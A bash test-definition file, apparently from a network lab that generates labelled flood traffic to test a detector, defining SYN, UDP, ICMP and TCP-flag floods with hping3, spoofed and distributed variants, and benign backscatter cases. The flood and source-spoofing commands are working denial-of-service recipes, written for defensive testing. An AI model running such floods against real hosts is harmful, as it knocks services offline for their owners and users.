# shellcheck shell=bash disable=SC2154,SC2086 # names of tests/lab/run, each one word
# SPDX-License-Identifier: GPL-2.0-or-later
# Floods, bounded by count; -i u500 is 2,000 packets a second.

attack flood_syn syn_flood $outside $web "${flood[@]}" -S -p 80 -i u500 -c 8000 $web
attack flood_syn_spoofed syn_flood \* $web "${flood[@]}" -S -p 80 -i u500 -c 8000 --rand-source $web
attack flood_syn_5000_per_minute syn_flood $outside $web "${flood[@]}" -S -p 80 -i u12000 -c 1600 $web
attack flood_syn_spoofed_5000_per_minute syn_flood \* $web "${flood[@]}" -S -p 80 -i u12000 -c 1600 --rand-source $web
attack flood_syn_distributed syn_flood $far_net $web distributed_flood -S -p 80 -i u4000 -c 1000 $web
attack flood_syn_closed syn_flood $outside $quiet "${flood[@]}" -S -p 81 -i u500 -c 6000 $quiet
attack flood_syn_closed_spoofed syn_flood \* $quiet "${flood[@]}" -S -p 81 -i u500 -c 6000 --rand-source $quiet
attack flood_syn_filtered syn_flood $outside $filtered "${flood[@]}" -S -p 80 -i u500 -c 6000 $filtered
attack flood_syn_ports syn_flood\|port_scan $outside $web "${flood[@]}" -S -p ++1 -i u500 -c 6000 $web
attack flood_syn_ports_spoofed syn_flood \* $web "${flood[@]}" -S -p ++1 -i u500 -c 6000 --rand-source $web
attack flood_syn_one_source_port syn_flood $outside $web "${flood[@]}" -S -k -s 4444 -p 80 -i u500 -c 6000 $web
attack flood_syn_payload syn_flood $outside $web "${flood[@]}" -S -p 80 -d 120 -i u500 -c 6000 $web
attack flood_syn_among_users syn_flood \* $web flood_among_users

attack flood_udp udp_flood $outside $web "${flood[@]}" --udp -p 5000 -d 120 -i u500 -c 8000 $web
attack flood_udp_spoofed udp_flood \* $web "${flood[@]}" --udp -p 5000 -d 120 -i u500 -c 8000 --rand-source $web
attack flood_udp_closed udp_flood $outside $web "${flood[@]}" --udp -p 9999 -d 120 -i u500 -c 8000 $web
attack flood_udp_dns udp_flood $outside $dns "${flood[@]}" --udp -p 53 -d 60 -i u500 -c 8000 $dns
attack flood_udp_ports udp_flood\|port_scan $outside $quiet "${flood[@]}" --udp -p ++1 -d 120 -i u500 -c 8000 $quiet
attack flood_udp_distributed udp_flood $far_net $web distributed_flood --udp -p 5000 -d 120 -i u4000 -c 1000 $web

attack flood_icmp icmp_flood $outside $web "${flood[@]}" -1 -i u500 -c 8000 $web
attack flood_icmp_spoofed icmp_flood \* $web "${flood[@]}" -1 -i u500 -c 8000 --rand-source $web
attack flood_icmp_large icmp_flood $outside $web "${flood[@]}" -1 -d 1000 -i u500 -c 6000 $web
attack flood_icmp_ping icmp_flood $outside $web from outside ping -q -n -f -c 8000 $web
attack flood_icmpv6_ping icmp_flood $outside6 $web6 from outside ping -6 -q -n -f -c 8000 $web6

attack flood_ack tcp_flood $outside $web "${flood[@]}" -A -p 80 -i u500 -c 8000 $web
attack flood_ack_spoofed tcp_flood \* $web "${flood[@]}" -A -p 80 -i u500 -c 8000 --rand-source $web
attack flood_rst tcp_flood $outside $web "${flood[@]}" -R -p 80 -i u500 -c 8000 $web
attack flood_fin tcp_flood $outside $web "${flood[@]}" -F -p 80 -i u500 -c 8000 $web
attack flood_fin_ack tcp_flood $outside $web "${flood[@]}" -F -A -p 80 -i u500 -c 8000 $web
attack flood_push_ack tcp_flood $outside $web "${flood[@]}" -P -A -p 80 -d 64 -i u500 -c 8000 $web
attack flood_xmas tcp_flood\|protocol_misuse $outside $web "${flood[@]}" -F -P -U -p 80 -i u500 -c 8000 $web
attack flood_null tcp_flood\|protocol_misuse $outside $web "${flood[@]}" -p 80 -i u500 -c 8000 $web
attack flood_synack tcp_flood $outside $web "${flood[@]}" -S -A -p 80 -i u500 -c 8000 $web
attack flood_ack_distributed tcp_flood $far_net $web distributed_flood -A -p 80 -i u4000 -c 1000 $web

# What a host sends when somebody else floods it in the names of others: it attacks nobody.
BPF="src host $web" AT=web:eth0 benign backscatter_synack $web \* \
    "${flood[@]}" -S -p 80 -i u1000 -c 5000 --rand-source $web
BPF="src host $quiet" AT=quiet:eth0 benign backscatter_rst $quiet \* \
    "${flood[@]}" -S -p 81 -i u1000 -c 5000 --rand-source $quiet
BPF="src host $web and icmp" AT=web:eth0 benign backscatter_icmp $web \* \
    "${flood[@]}" --udp -p 9999 -i u1000 -c 5000 --rand-source $web
BPF="src host $web" AT=web:eth0 benign backscatter_echo_reply $web \* \
    "${flood[@]}" -1 -i u1000 -c 5000 --rand-source $web

# distributed_flood OPTION…: the same from eight sources at once.
distributed_flood()
{
    local i
    for i in {67..74}; do
        from outside hping3 -q -n -a "198.51.100.$i" "$@" &
    done
    wait
}

flood_among_users()
{
    from crowd python3 "$lab/traffic.py" crowd $web 101 120 &
    "${flood[@]}" -S -p 80 -i u2000 -c 3000 --rand-source $web
    wait
}
